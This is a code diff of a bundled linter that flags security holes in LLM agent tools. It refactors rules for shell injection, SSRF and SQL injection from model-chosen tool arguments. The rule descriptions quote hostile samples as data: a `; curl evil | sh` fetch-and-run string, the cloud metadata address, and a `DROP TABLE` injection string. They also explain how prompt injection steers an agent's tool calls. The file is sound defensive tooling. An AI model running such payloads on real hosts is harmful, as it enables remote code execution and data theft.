+	description: "A tool argument or model response is interpolated into a command that a shell parses: subprocess with shell=True, os.system, os.popen, asyncio.create_subprocess_shell, or Node child_process exec/execSync. The model chooses tool arguments, so text injected into its context (`; curl evil | sh`, `$(...)`) runs as commands on the host. " + HELPER_HOP_SENTENCE,
+	persona: "secops",
+	category: "security",
+	severity: "error",
+	fixability: "structural",
+	tags: [
+		"security",
+		"CWE-78",
+		"LLM05:2025",
+		"ASI05",
+		"ASI02"
+	],
+	remediation: "Pass an argument list without a shell: subprocess.run([\"git\", \"log\", \"--\", path], shell=False) or execFile(\"git\", [\"log\", \"--\", path]); validate the input against an allowlist of commands/flags, or quote it with shlex.quote when a shell is unavoidable. Run command tools in a sandbox.",
+	docs: "https://docs.python.org/3/library/subprocess.html#security-considerations",
+	precision: "high",
+	securitySeverity: 9.8
+}, {
+	python: PYTHON_SINKS,
+	ts: TS_SINKS
+});
 // src/rules/security/ssrf-model-url.ts
 var HTTP_METHODS = "(get|post|put|patch|delete|head|options|request|stream)";
 var PY_MODULE_SINK = new RegExp(`^(requests|httpx|requests\\.api)\\.${HTTP_METHODS}$|^aiohttp\\.request$|^urllib3\\.request$`);
@@ -6976,87 +6909,6 @@ var ALLOWLIST = [
 	/\.(startswith|startsWith)\s*\(/,
 	/\b(validate|verify|check|is_allowed|is_safe|isAllowed|isSafe|assert_safe)_?\w*(url|host|domain)\w*\s*\(/i
 ];
-var ssrfModelUrlCheck = defineRule({
-	id: "security/ssrf-model-url",
-	title: "Tool fetches a URL the model chose",
-	description: "A tool function requests a URL taken from its own parameters (requests/httpx/urllib/aiohttp, fetch/axios) and never checks the host. The model fills that parameter, so an injected instruction can point it at cloud metadata (169.254.169.254), internal services or an attacker's server to exfiltrate data in the query string. Library names are resolved through the imports where the call stands (`import urllib.request as ur`, `from urllib.request import urlopen`); a parameter or variable named `requests` is not the library. " + HELPER_HOP_SENTENCE,
-	persona: "secops",
-	category: "security",
-	severity: "warning",
-	fixability: "structural",
-	tags: [
-		"security",
-		"CWE-918",
-		"ASI02",
-		"LLM06:2025"
-	],
-	remediation: "Take a path or query value from the model, not a whole URL, and join it to a fixed base; or parse the URL and compare its scheme and hostname against an allowlist (urlparse(url).hostname in ALLOWED_HOSTS / new URL(url).hostname), resolve and reject private/link-local addresses, and disable redirects.",
-	docs: "https://cheatsheetseries.owasp.org/cheatsheets/Server_Side_Request_Forgery_Prevention_Cheat_Sheet.html",
-	knows: TOOL_DECLARATIONS_KNOWN,
-	frameworks: TOOL_FRAMEWORKS,
-	precision: "medium",
-	securitySeverity: 7.5
-}, {
-	appliesTo: (file) => PY_OR_TS(file.language),
-	run: (context) => runSinkRule(context, {
-		python: {
-			sinkText: PY_FETCH_TEXT,
-			needsOwnTool: true,
-			direct({ analysis, module }, report) {
-				const clients = pythonClients(module.tree.rootNode, analysis.imports);
-				for (const call of calls(module.tree)) {
-					const sink = pythonFetchSink(call, analysis.imports, clients);
-					if (!sink) continue;
-					const scoped = analysis.taintFor(call);
-					if (!scoped?.tool || checksHost(scoped.tool.node)) continue;
-					const names = pythonHostTaint(sink.url, scoped.taint, call.startIndex, 0);
-					if (!names) continue;
-					report({
-						start: call.startIndex,
-						end: call.endIndex,
-						message: `${sink.written}(...) fetches a URL whose host comes from tool input ${quoteNames(names)} of ${scoped.tool.name} (${scoped.tool.via}) with no host allowlist; ${SSRF_RISK}`,
-						fingerprintContent: `${sink.written}|${names.join(",")}`
-					});
-				}
-			},
-			helper: PY_HELPER_SPEC$1,
-			helperReport: (flow) => checksHost(flow.tool.node) ? void 0 : helperFlowReport(flow, {
-				tool: `${flow.tool.name} (${flow.tool.via})`,
-				param: `'${flow.param}'`,
-				reaches: "as the URL host of",
-				tail: `, with no host allowlist; ${SSRF_RISK}`
-			})
-		},
-		ts: {
-			sinkText: TS_FETCH_TEXT,
-			needsOwnTool: true,
-			direct({ analysis, module }, report) {
-				for (const call of callExpressions(module.tree)) {
-					const url = tsFetchUrl(call, module);
-					if (!url) continue;
-					const scoped = analysis.taintFor(call);
-					if (!scoped || checksHost(scoped.tool.node)) continue;
-					const names = tsHostTaint(url, scoped.taint, call.startIndex, 0);
-					if (!names) continue;
-					const callee = tsCalleeText(call);
-					report({
-						start: call.startIndex,
-						end: call.endIndex,
-						message: `${callee}(...) fetches a URL whose host comes from tool input ${quoteNames(names)} of ${scoped.tool.via} with no host allowlist; ${SSRF_RISK}`,
-						fingerprintContent: `${callee}|${names.join(",")}`
-					});
-				}
-			},
-			helper: TS_HELPER_SPEC$1,
-			helperReport: (flow) => checksHost(flow.tool.node) ? void 0 : helperFlowReport(flow, {
-				tool: flow.tool.via,
-				param: flow.param,
-				reaches: "as the URL host of",
-				tail: `, with no host allowlist; ${SSRF_RISK}`
-			})
-		}
-	})
-});
 /** A tool whose code compares hosts against an allowlist (or validates the URL) is judged safe. */
 var checksHost = (tool) => ALLOWLIST.some((pattern) => pattern.test(tool.text));
 var TS_FETCH_TEXT = /\b(fetch|axios|got)\b/;
@@ -7076,7 +6928,7 @@ var TS_HELPER_SPEC$1 = {
 		if (ALLOWLIST.some((pattern) => pattern.test(scope.text))) return [];
 		return calls.flatMap((call) => {
 			const url = tsFetchUrl(call, module);
-			return url && tsHostTaint(url, taint, call.startIndex, 0) ? [{
+			return url && hostTaint(TS_URLS, url, taint, call.startIndex, 0) ? [{
 				call,
 				label: `${tsCalleeText(call)}(...)`
 			}] : [];
@@ -7085,6 +6937,13 @@ var TS_HELPER_SPEC$1 = {
 };
 var PY_FETCH_TEXT = /\b(requests|httpx|urllib|urlopen|aiohttp|urllib3)\b/;
 var SSRF_RISK = "an injected instruction can aim it at cloud metadata or internal services.";
+/** `requests.get(...) fetches a URL whose host comes from tool input 'url' of fetch_page (@tool) with no host allowlist; <risk>`. */
+function ssrfFinding(callee, names, tool) {
+	return {
+		message: `${callee}(...) fetches a URL whose host comes from tool input ${quoteNames(names)} of ${tool} with no host allowlist; ${SSRF_RISK}`,
+		fingerprintContent: `${callee}|${names.join(",")}`
+	};
+}
 var HTTP_METHOD = new RegExp(`^${HTTP_METHODS}$`);
 /**
 * Names bound to HTTP client objects: `async with httpx.AsyncClient() as client`, `session = requests.Session()`,
@@ -7164,7 +7023,7 @@ var PY_HELPER_SPEC$1 = {
 		const clients = pythonClients(module.tree.rootNode, imports);
 		return calls.flatMap((call) => {
 			const sink = pythonFetchSink(call, imports, clients);
-			return sink && pythonHostTaint(sink.url, taint, call.startIndex, 0) ? [{
+			return sink && hostTaint(PYTHON_URLS, sink.url, taint, call.startIndex, 0) ? [{
 				call,
 				label: `${sink.written}(...)`
 			}] : [];
@@ -7173,56 +7032,58 @@ var PY_HELPER_SPEC$1 = {
 };
 /** A scheme with no complete host yet: `https://`, `http://{`, `https://api.` — the next value decides the host. */
 var OPEN_HOST = /^([a-z][a-z0-9+.-]*:)?(\/\/)?[^/?#]*$/i;
+var PYTHON_URLS = {
+	template: {
+		type: "string",
+		literal: "string_content",
+		substitution: "interpolation"
+	},
+	concatenation: "binary_operator",
+	plainString: (part) => part.type === "string" && !part.namedChildren.some((c) => c.type === "interpolation") ? part.text.slice(1, -1) : void 0,
+	access: ["subscript", "attribute"],
+	callTypes: ["call"],
+	callHost(call, taint, inner) {
+		const callee = calleeText(call);
+		if (/(^|\.)urljoin$/.test(callee)) return taint.taintedNames(call);
+		const object = call.childForFieldName("function")?.childForFieldName("object");
+		if (object && taint.isTainted(object)) return taint.taintedNames(object);
+		if (callee === "str") {
+			const value = positionalArguments(call)[0];
+			return value ? inner(value) : void 0;
+		}
+	}
+};
+var TS_URLS = {
+	template: {
+		type: "template_string",
+		literal: "string_fragment",
+		substitution: "template_substitution"
+	},
+	concatenation: "binary_expression",
+	plainString: (part) => part.type === "string" ? part.text.slice(1, -1) : void 0,
+	access: ["member_expression", "subscript_expression"],
+	callTypes: ["new_expression", "call_expression"],
+	callHost(call, taint) {
+		const callee = tsCalleeText(call);
+		if (callee === "URL" || callee === "String" || /\.(trim|toString)$/.test(callee)) return taint.taintedNames(call);
+	}
+};
 /**
 * Does tainted data decide the URL's host? `url`, `f"https://{host}/x"`, `"http://" + host` do; `f"https://api.x.com/v1/{city}"`
 * and `BASE_URL + path` (a constant base first) do not. Returns the tainted names, or undefined.
 */
-function pythonHostTaint(node, taint, position, depth) {
+function hostTaint(grammar, node, taint, position, depth) {
 	if (depth > 3 || !taint.isTainted(node)) return void 0;
-	switch (node.type) {
-		case "identifier": {
-			const value = taint.assignedValue(node.text, position);
-			if (value && value.type !== "identifier") return pythonHostTaint(value, taint, value.startIndex, depth + 1);
-			return [node.text];
-		}
-		case "string": return prefixDecides(node.namedChildren, (part) => part.type === "string_content" ? part.text : void 0, (part) => part.type === "interpolation" && taint.isTainted(part)) ? taint.taintedNames(node) : void 0;
-		case "binary_operator": return prefixDecides(flatten(node, "binary_operator"), (part) => part.type === "string" && !part.namedChildren.some((c) => c.type === "interpolation") ? part.text.slice(1, -1) : void 0, (part) => taint.isTainted(part)) ? taint.taintedNames(node) : void 0;
-		case "call": {
-			const callee = calleeText(node);
-			if (/(^|\.)urljoin$/.test(callee)) return taint.taintedNames(node);
-			const object = node.childForFieldName("function")?.childForFieldName("object");
-			if (object && taint.isTainted(object)) return taint.taintedNames(object);
-			if (callee === "str") {
-				const inner = positionalArguments(node)[0];
-				return inner ? pythonHostTaint(inner, taint, position, depth + 1) : void 0;
-			}
-			return;
-		}
-		case "subscript":
-		case "attribute": return taint.taintedNames(node);
-		default: return;
+	if (node.type === "identifier") {
+		const value = taint.assignedValue(node.text, position);
+		if (value && value.type !== "identifier") return hostTaint(grammar, value, taint, value.startIndex, depth + 1);
+		return [node.text];
 	}
-}
-function tsHostTaint(node, taint, position, depth) {
-	if (depth > 3 || !taint.isTainted(node)) return void 0;
-	switch (node.type) {
-		case "identifier": {
-			const value = taint.assignedValue(node.text, position);
-			if (value && value.type !== "identifier") return tsHostTaint(value, taint, value.startIndex, depth + 1);
-			return [node.text];
-		}
-		case "template_string": return prefixDecides(node.namedChildren, (part) => part.type === "string_fragment" ? part.text : void 0, (part) => part.type === "template_substitution" && taint.isTainted(part)) ? taint.taintedNames(node) : void 0;
-		case "binary_expression": return prefixDecides(flatten(node, "binary_expression"), (part) => part.type === "string" ? part.text.slice(1, -1) : void 0, (part) => taint.isTainted(part)) ? taint.taintedNames(node) : void 0;
-		case "new_expression":
-		case "call_expression": {
-			const callee = tsCalleeText(node);
-			if (callee === "URL" || callee === "String" || /\.(trim|toString)$/.test(callee)) return taint.taintedNames(node);
-			return;
-		}
-		case "member_expression":
-		case "subscript_expression": return taint.taintedNames(node);
-		default: return;
-	}
+	const { template } = grammar;
+	if (node.type === template.type) return prefixDecides(node.namedChildren, (part) => part.type === template.literal ? part.text : void 0, (part) => part.type === template.substitution && taint.isTainted(part)) ? taint.taintedNames(node) : void 0;
+	if (node.type === grammar.concatenation) return prefixDecides(flatten(node, grammar.concatenation), grammar.plainString, (part) => taint.isTainted(part)) ? taint.taintedNames(node) : void 0;
+	if (grammar.callTypes.includes(node.type)) return grammar.callHost(node, taint, (value) => hostTaint(grammar, value, taint, position, depth + 1));
+	return grammar.access.includes(node.type) ? taint.taintedNames(node) : void 0;
 }
 /** Walks the parts of a built string; true when a tainted part arrives before the host is complete. */
 function prefixDecides(parts, literal, tainted) {
@@ -7241,6 +7102,62 @@ function flatten(node, type) {
 	const right = node.childForFieldName("right");
 	return [...left ? flatten(left, type) : [], ...right ? flatten(right, type) : []];
 }
+var ssrfModelUrlCheck = defineSinkRule({
+	id: "security/ssrf-model-url",
+	title: "Tool fetches a URL the model chose",
+	description: "A tool function requests a URL taken from its own parameters (requests/httpx/urllib/aiohttp, fetch/axios) and never checks the host. The model fills that parameter, so an injected instruction can point it at cloud metadata (169.254.169.254), internal services or an attacker's server to exfiltrate data in the query string. Library names are resolved through the imports where the call stands (`import urllib.request as ur`, `from urllib.request import urlopen`); a parameter or variable named `requests` is not the library. " + HELPER_HOP_SENTENCE,
+	persona: "secops",
+	category: "security",
+	severity: "warning",
+	fixability: "structural",
+	tags: [
+		"security",
+		"CWE-918",
+		"ASI02",
+		"LLM06:2025"
+	],
+	remediation: "Take a path or query value from the model, not a whole URL, and join it to a fixed base; or parse the URL and compare its scheme and hostname against an allowlist (urlparse(url).hostname in ALLOWED_HOSTS / new URL(url).hostname), resolve and reject private/link-local addresses, and disable redirects.",
+	docs: "https://cheatsheetseries.owasp.org/cheatsheets/Server_Side_Request_Forgery_Prevention_Cheat_Sheet.html",
+	precision: "medium",
+	securitySeverity: 7.5
+}, {
+	python: {
+		sinkText: PY_FETCH_TEXT,
+		needsOwnTool: true,
+		direct(call, { analysis, module }) {
+			const sink = pythonFetchSink(call, analysis.imports, pythonClients(module.tree.rootNode, analysis.imports));
+			const scoped = sink && analysis.taintFor(call);
+			if (!sink || !scoped?.tool || checksHost(scoped.tool.node)) return void 0;
+			const names = hostTaint(PYTHON_URLS, sink.url, scoped.taint, call.startIndex, 0);
+			return names && ssrfFinding(sink.written, names, `${scoped.tool.name} (${scoped.tool.via})`);
+		},
+		helper: PY_HELPER_SPEC$1,
+		helperReport: (flow) => checksHost(flow.tool.node) ? void 0 : helperFlowReport(flow, {
+			tool: `${flow.tool.name} (${flow.tool.via})`,
+			param: `'${flow.param}'`,
+			reaches: "as the URL host of",
+			tail: `, with no host allowlist; ${SSRF_RISK}`
+		})
+	},
+	ts: {
+		sinkText: TS_FETCH_TEXT,
+		needsOwnTool: true,
+		direct(call, { analysis, module }) {
+			const url = tsFetchUrl(call, module);
+			const scoped = url && analysis.taintFor(call);
+			if (!url || !scoped || checksHost(scoped.tool.node)) return void 0;
+			const names = hostTaint(TS_URLS, url, scoped.taint, call.startIndex, 0);
+			return names && ssrfFinding(tsCalleeText(call), names, scoped.tool.via);
+		},
+		helper: TS_HELPER_SPEC$1,
+		helperReport: (flow) => checksHost(flow.tool.node) ? void 0 : helperFlowReport(flow, {
+			tool: flow.tool.via,
+			param: flow.param,
+			reaches: "as the URL host of",
+			tail: `, with no host allowlist; ${SSRF_RISK}`
+		})
+	}
+});
 // src/rules/security/sql-from-input.ts
 var PY_METHOD_SINKS = /\.(execute|executemany|executescript|exec_driver_sql|raw|query|fetch|fetchrow|fetchval|read_sql|read_sql_query)$/;
 var PY_FUNCTION_SINKS = /* @__PURE__ */ new Set([
@@ -7253,87 +7170,6 @@ var PY_FUNCTION_SINKS = /* @__PURE__ */ new Set([
 var TS_METHOD_SINKS = /\.(query|execute|raw|\$queryRawUnsafe|\$executeRawUnsafe|unsafe|exec|all|get|run|prepare)$/;
 /** Only strings that read as SQL count, so `.execute()` of a non-SQL API with a formatted string stays silent. */
 var SQL_WORDS = /\b(select\s[\s\S]*\bfrom|insert\s+into|update\s+\S+\s+set|delete\s+from|drop\s+(table|database)|alter\s+table|create\s+table|where\s|order\s+by|values\s*\()/i;
-var sqlFromInputCheck = defineRule({
-	id: "security/sql-from-input",
-	title: "SQL built from tool input",
-	description: "A tool argument is formatted into SQL text (f-string, %, .format(), + or a JS template) that is then executed. The model chooses tool arguments, so an instruction injected into its context (`x' OR 1=1; DROP TABLE users; --`) rewrites the query: data theft or destruction with the tool's database rights. " + HELPER_HOP_SENTENCE,
-	persona: "secops",
-	category: "security",
-	severity: "error",
-	fixability: "structural",
-	tags: [
-		"security",
-		"CWE-89",
-		"LLM05:2025",
-		"ASI02"
-	],
-	remediation: "Pass tool input as bound parameters: cursor.execute(\"SELECT ... WHERE id = %s\", (id,)), sqlite \"?\" placeholders, SQLAlchemy text(\"... :id\") with params, pg \"$1\" with a values array, or a tagged sql`` template. Give the tool a read-only database role scoped to the tables it needs.",
-	docs: "https://cheatsheetseries.owasp.org/cheatsheets/Query_Parameterization_Cheat_Sheet.html",
-	knows: TOOL_DECLARATIONS_KNOWN,
-	frameworks: TOOL_FRAMEWORKS,
-	precision: "high",
-	securitySeverity: 9.1
-}, {
-	appliesTo: (file) => PY_OR_TS(file.language),
-	run: (context) => runSinkRule(context, {
-		python: {
-			sinkText: SQL_WORDS,
-			needsOwnTool: true,
-			direct({ analysis, module }, report) {
-				for (const call of calls(module.tree)) {
-					const query = pythonSqlQuery(call, analysis.imports);
-					if (!query) continue;
-					const scoped = analysis.taintFor(call);
-					if (!scoped) continue;
-					const built = pythonBuiltSql(query, scoped.taint, call.startIndex, 0);
-					if (!built) continue;
-					const written = calleeText(call);
-					report({
-						start: call.startIndex,
-						end: call.endIndex,
-						message: `${written}(...) runs SQL built with ${built.how} from tool input ${quoteNames(built.names)} of ${scoped.tool?.name} (${scoped.tool?.via}); ${SQL_RISK}`,
-						fingerprintContent: `${written}|${built.how}|${built.names.join(",")}`
-					});
-				}
-			},
-			helper: PY_HELPER_SPEC,
-			helperReport: (flow) => helperFlowReport(flow, {
-				tool: `${flow.tool.name} (${flow.tool.via})`,
-				param: `'${flow.param}'`,
-				reaches: "to",
-				tail: `; ${SQL_RISK}`
-			})
-		},
-		ts: {
-			sinkText: SQL_WORDS,
-			needsOwnTool: true,
-			direct({ analysis, module }, report) {
-				for (const call of callExpressions(module.tree)) {
-					const query = tsSqlQuery(call);
-					if (!query) continue;
-					const scoped = analysis.taintFor(call);
-					if (!scoped) continue;
-					const built = tsBuiltSql(query, scoped.taint, call.startIndex, 0);
-					if (!built) continue;
-					const callee = tsCalleeText(call);
-					report({
-						start: call.startIndex,
-						end: call.endIndex,
-						message: `${callee}(...) runs SQL built with ${built.how} from tool input ${quoteNames(built.names)} of ${scoped.tool.via}; ${SQL_RISK}`,
-						fingerprintContent: `${callee}|${built.how}|${built.names.join(",")}`
-					});
-				}
-			},
-			helper: TS_HELPER_SPEC,
-			helperReport: (flow) => helperFlowReport(flow, {
-				tool: flow.tool.via,
-				param: flow.param,
-				reaches: "to",
-				tail: `; ${SQL_RISK}`
-			})
-		}
-	})
-});
 /** A driver call that runs SQL text (`db.query`, `$queryRawUnsafe`), and the query argument. */
 function tsSqlQuery(call) {
 	if (call.type !== "call_expression" || !TS_METHOD_SINKS.test(tsCalleeText(call))) return void 0;
@@ -7352,6 +7188,13 @@ var TS_HELPER_SPEC = {
 	})
 };
 var SQL_RISK = "the driver cannot tell data from SQL there, so injected text rewrites the query.";
+/** `cursor.execute(...) runs SQL built with an f-string from tool input 'name' of lookup (@tool); <risk>`. */
+function sqlFinding(callee, built, tool) {
+	return {
+		message: `${callee}(...) runs SQL built with ${built.how} from tool input ${quoteNames(built.names)} of ${tool}; ${SQL_RISK}`,
+		fingerprintContent: `${callee}|${built.how}|${built.names.join(",")}`
+	};
+}
 /** A call that executes SQL text (cursor.execute, text(), pandas.read_sql) and the argument holding the query. */
 function pythonSqlQuery(call, imports) {
 	const written = calleeText(call);
@@ -7443,6 +7286,62 @@ function tsBuiltSql(node, taint, position, depth) {
 		names: taint.taintedNames(node)
 	};
 }
+var sqlFromInputCheck = defineSinkRule({
+	id: "security/sql-from-input",
+	title: "SQL built from tool input",
+	description: "A tool argument is formatted into SQL text (f-string, %, .format(), + or a JS template) that is then executed. The model chooses tool arguments, so an instruction injected into its context (`x' OR 1=1; DROP TABLE users; --`) rewrites the query: data theft or destruction with the tool's database rights. " + HELPER_HOP_SENTENCE,
+	persona: "secops",
+	category: "security",
+	severity: "error",
+	fixability: "structural",
+	tags: [
+		"security",
+		"CWE-89",
+		"LLM05:2025",
+		"ASI02"
+	],
+	remediation: "Pass tool input as bound parameters: cursor.execute(\"SELECT ... WHERE id = %s\", (id,)), sqlite \"?\" placeholders, SQLAlchemy text(\"... :id\") with params, pg \"$1\" with a values array, or a tagged sql`` template. Give the tool a read-only database role scoped to the tables it needs.",
+	docs: "https://cheatsheetseries.owasp.org/cheatsheets/Query_Parameterization_Cheat_Sheet.html",
+	precision: "high",
+	securitySeverity: 9.1
+}, {
+	python: {
+		sinkText: SQL_WORDS,
+		needsOwnTool: true,
+		direct(call, { analysis }) {
+			const query = pythonSqlQuery(call, analysis.imports);
+			const scoped = query && analysis.taintFor(call);
+			if (!query || !scoped) return void 0;
+			const built = pythonBuiltSql(query, scoped.taint, call.startIndex, 0);
+			return built && sqlFinding(calleeText(call), built, `${scoped.tool?.name} (${scoped.tool?.via})`);
+		},
+		helper: PY_HELPER_SPEC,
+		helperReport: (flow) => helperFlowReport(flow, {
+			tool: `${flow.tool.name} (${flow.tool.via})`,
+			param: `'${flow.param}'`,
+			reaches: "to",
+			tail: `; ${SQL_RISK}`
+		})
+	},
+	ts: {
+		sinkText: SQL_WORDS,
+		needsOwnTool: true,
+		direct(call, { analysis }) {
+			const query = tsSqlQuery(call);
+			const scoped = query && analysis.taintFor(call);
+			if (!query || !scoped) return void 0;
+			const built = tsBuiltSql(query, scoped.taint, call.startIndex, 0);
+			return built && sqlFinding(tsCalleeText(call), built, scoped.tool.via);
+		},
+		helper: TS_HELPER_SPEC,
+		helperReport: (flow) => helperFlowReport(flow, {
+			tool: flow.tool.via,
+			param: flow.param,
+			reaches: "to",
+			tail: `; ${SQL_RISK}`
+		})
+	}
+});
 // src/rules/security/untrusted-input-in-system-prompt.ts
 /** Keyword arguments that set an agent's or model's system-level instructions across ADK, OpenAI Agents, Pydantic AI, CrewAI, Anthropic, LangGraph. */
 var PY_SYSTEM_KEYWORDS = /* @__PURE__ */ new Set([
